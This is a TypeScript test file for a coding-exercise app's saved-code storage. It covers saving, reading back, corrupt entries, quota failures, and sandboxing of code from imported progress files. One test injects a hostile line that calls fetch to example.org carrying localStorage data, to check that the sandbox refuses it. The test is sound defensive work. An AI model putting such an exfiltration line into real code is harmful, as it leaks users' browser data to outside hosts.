// The learner's code kept per exercise: saved, read back, a damaged entry
// told (the caller opens the starter), and code arriving in an imported
// progress file treated as untrusted: it runs only in the sandbox, where a
// forbidden global is refused.
import { beforeAll, describe, expect, it } from 'vitest';
import type { CodeEnvironment } from '../../../src/code/checks/environment.ts';
import { checkExercise } from '../../../src/code/exercises/check.ts';
import { clearSavedCode, MAX_SAVED_CHARS, readSavedCode, savedCodeKey, writeSavedCode } from '../../../src/code/progress/savedCode.ts';
import { neverOversellSolution } from '../../../src/code/exercises/neverOversell/solution.ts';
import { exportCarry, importCarry, readSnapshot, type CarryStorage } from '../../../src/progress/carry.ts';
import { codeEnvironment } from './environment.ts';

function fakeStorage(initial: Record<string, string> = {}): CarryStorage {
  const data = new Map(Object.entries(initial));
  return {
    getItem: (key) => data.get(key) ?? null,
    setItem: (key, value) => void data.set(key, value),
    removeItem: (key) => void data.delete(key),
    key: (index) => [...data.keys()][index] ?? null,
    get length() {
      return data.size;
    },
  };
}

const at = '2026-12-06T06:00:00.000Z';

let env: CodeEnvironment;
beforeAll(async () => {
  env = await codeEnvironment();
});

describe('saved code', () => {
  it('is written, read back and cleared per exercise', () => {
    const storage = fakeStorage();
    expect(readSavedCode(storage, 'never-oversell')).toEqual({ kind: 'none' });
    expect(writeSavedCode(storage, 'never-oversell', 'export const x = 1;', at)).toBe(true);
    expect(storage.getItem('cqrs-lab:code:never-oversell')).toBe(JSON.stringify({ source: 'export const x = 1;', at }));
    expect(readSavedCode(storage, 'never-oversell')).toEqual({ kind: 'saved', saved: { source: 'export const x = 1;', at } });
    expect(readSavedCode(storage, 'idempotent-balance')).toEqual({ kind: 'none' });
    clearSavedCode(storage, 'never-oversell');
    expect(readSavedCode(storage, 'never-oversell')).toEqual({ kind: 'none' });
  });

  it.each([
    ['not JSON', '{"source": "export'],
    ['no source', JSON.stringify({ at })],
    ['a source that is not text', JSON.stringify({ source: 42, at })],
    ['no date', JSON.stringify({ source: 'x', at: 'yesterday' })],
    ['an array', '[]'],
    ['too long', JSON.stringify({ source: 'x'.repeat(MAX_SAVED_CHARS + 1), at })],
  ])('a damaged entry (%s) is told, and the caller opens the starter', (_name, text) => {
    const read = readSavedCode(fakeStorage({ [savedCodeKey('never-oversell')]: text }), 'never-oversell');
    expect(read.kind).toBe('corrupt');
    expect(read.kind === 'corrupt' && read.message).toMatch(/^Your saved code for this exercise could not be read .*the starter is shown/);
  });

  it('a browser that refuses to store says so instead of throwing', () => {
    const full = {
      setItem: () => {
        throw new DOMException('full', 'QuotaExceededError');
      },
    };
    expect(writeSavedCode(full, 'never-oversell', 'x', at)).toBe(false);
    expect(writeSavedCode(fakeStorage(), 'never-oversell', 'x'.repeat(MAX_SAVED_CHARS + 1), at)).toBe(false);
  });

  it('code in an imported file is kept as text and, when checked, runs only in the sandbox: a forbidden global is refused', async () => {
    const hostile = neverOversellSolution.replace(
      'export function initialState() {',
      'export function initialState() {\n  document.title = "pwned"; fetch("https://example.org/?" + localStorage.length);',
    );
    expect(hostile).not.toBe(neverOversellSolution);
    const sender = fakeStorage();
    writeSavedCode(sender, 'never-oversell', hostile, at);
    const here = fakeStorage();
    expect(importCarry(here, exportCarry(readSnapshot(sender), new Date(at))).ok).toBe(true);
    const read = readSavedCode(here, 'never-oversell');
    expect(read).toEqual({ kind: 'saved', saved: { source: hostile, at } });
    // Node has no document: a run outside the sandbox would throw a ReferenceError, not this refusal.
    expect('document' in globalThis).toBe(false);
    const report = await checkExercise(env, 'never-oversell', read.kind === 'saved' ? read.saved.source : '', 2);
    expect(report.passed).toBe(false);
    const failure = report.checks.find((c) => c.error)!;
    expect(failure.error).toMatchObject({ kind: 'runtime', line: 8 });
    expect(failure.error!.message).toContain('document is not available in the sandbox');
  });
});
